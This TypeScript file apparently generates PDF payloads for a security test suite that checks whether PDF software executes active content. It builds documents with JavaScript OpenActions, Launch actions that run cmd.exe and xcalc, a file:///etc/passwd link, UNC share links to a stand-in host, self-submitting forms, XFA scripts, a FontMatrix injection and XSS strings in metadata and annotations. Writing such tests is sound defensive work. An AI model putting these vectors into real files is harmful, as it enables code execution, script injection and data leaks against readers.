/** Payloads in PDFs: actions, scripts, attachments, forms, fonts, and what the file says of itself. */
import { contentStream, HELVETICA, type PdfObject, rawPdf, textAt } from "../raw-pdf.ts";
import { asks, type Payload, RAN, script, wordsOf } from "./payload.ts";

interface PdfParts {
  readonly catalogue?: string;
  /** Of the page. */
  readonly annotations?: readonly string[];
  /** From number 6 on; annotations come behind them. */
  readonly objects?: readonly PdfObject[];
  readonly trailer?: string;
  /** Of the page, beside Helvetica as /F. */
  readonly fonts?: string;
  readonly content?: string;
  readonly isText?: true;
}

const string = (text: string) => `(${text.replace(/[\\()]/gu, (sign) => `\\${sign}`)})`;
const javaScript = (id: string) => `<</S/JavaScript/JS${string(`app.alert('${id}');${script(id)}`)}>>`;
const linkTo = (action: string) => `<</Type/Annot/Subtype/Link/Rect[50 680 300 720]/A ${action}>>`;

const PDFS: readonly (readonly [what: string, parts: (id: string) => PdfParts])[] = [
  ["a script when it opens", (id) => ({ catalogue: `/OpenAction ${javaScript(id)}/AA<</WC ${javaScript(id)}>>` })],
  ["scripts by name", (id) => ({ catalogue: `/Names<</JavaScript<</Names[(a) ${javaScript(id)}]>>>>` })],
  [
    "links to scripts",
    (id) => ({ annotations: [linkTo(javaScript(id)), linkTo(`<</S/URI/URI${string(`javascript:${script(id)}`)}>>`)] }),
  ],
  [
    "a link to a file and to a share",
    (id) => ({
      annotations: [
        linkTo("<</S/URI/URI(file:///etc/passwd)>>"),
        linkTo(`<</S/GoToR/F(\\\\\\\\${id}.payload.example\\\\x.pdf)/D[0/Fit]/NewWindow true>>`),
      ],
    }),
  ],
  [
    "a program to start",
    (id) => ({
      catalogue: `/OpenAction<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c ${id})>>>>`,
      annotations: [linkTo("<</S/Launch/F(/usr/bin/xcalc)>>")],
    }),
  ],
  [
    "an address that opens by itself",
    (id) => ({ catalogue: `/OpenAction<</S/URI/URI(${asks(id)})>>/URI<</Base(${asks(id, "base/")})>>` }),
  ],
  [
    "a form that sends itself",
    (id) => ({
      catalogue: `/OpenAction<</S/SubmitForm/F<</FS/URL/F(${asks(id)})>>/Flags 4>>/AcroForm<</Fields[6 0 R]/NeedAppearances true>>`,
      objects: [
        `<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(filled)/Rect[50 600 200 620]/AA<</K ${javaScript(id)}/C ${javaScript(id)}>>>>`,
      ],
    }),
  ],
  [
    "data to take in and a sound, a film, a rendition",
    (id) => ({
      annotations: [
        linkTo(`<</S/ImportData/F(${asks(id)})>>`),
        `<</Type/Annot/Subtype/Screen/Rect[0 0 50 50]/A<</S/Rendition/JS${string(script(id))}>>>>`,
        `<</Type/Annot/Subtype/Movie/Rect[0 0 50 50]/Movie<</F(${asks(id)})>>/A true>>`,
      ],
    }),
  ],
  [
    "files in it",
    (id) => ({
      catalogue: "/Names<</EmbeddedFiles<</Names[(x.html) 7 0 R]>>>>",
      objects: [
        { dictionary: "/Type/EmbeddedFile/Subtype/text#2Fhtml", data: Buffer.from(`<script>${script(id)}</script>`) },
        "<</Type/Filespec/F(x.html)/UF(../../x.html)/EF<</F 6 0 R>>>>",
      ],
      annotations: ["<</Type/Annot/Subtype/FileAttachment/Rect[0 0 20 20]/FS 7 0 R>>"],
    }),
  ],
  [
    "a form in XML",
    (id) => ({
      catalogue: "/AcroForm<</Fields[]/XFA 6 0 R>>",
      objects: [
        {
          dictionary: "",
          data: Buffer.from(
            `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><event activity="initialize"><script contentType="application/x-javascript">${script(id)}</script></event><draw><value><exData contentType="text/html"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${asks(id)}"/></body></exData></value></draw></subform></template></xdp:xdp>`,
          ),
        },
      ],
    }),
  ],
  [
    "a font whose matrix is a script",
    (id) => ({
      fonts: "/G 6 0 R",
      content: `BT /G 12 Tf 50 600 Td (x) Tj ET`,
      objects: [
        `<</Type/Font/Subtype/Type1/BaseFont/${id}/FontMatrix[1 2 3 4 5 (1\\); globalThis.${RAN}='${id}'; \\()]/FontDescriptor<</Type/FontDescriptor/FontName/${id}/Flags 4>>>>`,
      ],
    }),
  ],
  [
    "a stream of elsewhere",
    (id) => ({
      objects: [{ dictionary: `/F<</FS/URL/F(${asks(id)})>>`, data: Buffer.from("") }],
      annotations: ["<</Type/Annot/Subtype/Stamp/Rect[0 0 50 50]/AP<</N 6 0 R>>>>"],
    }),
  ],
  [
    "what it says of itself in markup",
    (id) => ({
      isText: true,
      trailer: `/Info<</Title${string(`<script>${script(id)}</script>`)}/Author${string(`<img src=x: onerror=${script(id)}>`)}>>`,
      catalogue: "/Metadata 6 0 R",
      objects: [
        {
          dictionary: "/Type/Metadata/Subtype/XML",
          data: Buffer.from(
            `<?xpacket?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title><rdf:Alt><rdf:li>&lt;img src=x: onerror="${script(id)}"&gt;</rdf:li></rdf:Alt></dc:title><dc:source>javascript:${script(id)}</dc:source></rdf:Description></rdf:RDF></x:xmpmeta>`,
          ),
        },
      ],
    }),
  ],
  [
    "comments in markup",
    (id) => ({
      isText: true,
      annotations: [
        `<</Type/Annot/Subtype/Text/Rect[50 600 70 620]/T${string(`<svg onload=${script(id)}>`)}/Contents${string(`<script>${script(id)}</script>`)}/RC${string(`<body xmlns="http://www.w3.org/1999/xhtml"><p onclick="${script(id)}"><a href="javascript:x">x</a></p></body>`)}>>`,
        `<</Type/Annot/Subtype/FreeText/Rect[50 500 300 560]/DA(/F 12 Tf)/Contents${string(`<img src=x: onerror=${script(id)}>`)}>>`,
      ],
    }),
  ],
  [
    "a text in markup and an outline to a script",
    (id) => ({
      isText: true,
      content: textAt(`<script>${script(id)}</script>`, 50, 600),
      catalogue: "/Outlines 6 0 R",
      objects: [
        "<</Type/Outlines/First 7 0 R/Last 7 0 R/Count 1>>",
        `<</Title${string(`<img src=x: onerror=${script(id)}>`)}/Parent 6 0 R/A ${javaScript(id)}>>`,
      ],
    }),
  ],
];

function pdf(parts: PdfParts, id: string): Uint8Array {
  const objects = [...(parts.objects ?? []), ...(parts.annotations ?? [])];
  const first = 6 + (parts.objects?.length ?? 0);
  const references = (parts.annotations ?? []).map((_, index) => `${first + index} 0 R`).join(" ");
  const pieces = [
    `<</Type/Catalog/Pages 2 0 R ${parts.catalogue ?? ""}>>`,
    "<</Type/Pages/Kids[3 0 R]/Count 1>>",
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Resources<</Font<</F 4 0 R${parts.fonts ?? ""}>>>>/Contents 5 0 R/Annots[${references}]>>`,
    HELVETICA,
    contentStream(`${textAt(wordsOf(id), 50, 700)}${parts.content ?? ""}`),
    ...objects,
  ];
  return rawPdf(pieces, parts.trailer);
}

export const PDF_PAYLOADS: readonly Payload[] = PDFS.map(([what, partsOf], index) => {
  const id = `pdf${index + 1}`;
  const parts = partsOf(id);
  return {
    id,
    what: `PDF: ${what}`,
    fileName: `${id}.pdf`,
    make: () => pdf(parts, id),
    ...(parts.isText && { isText: true }),
  };
});
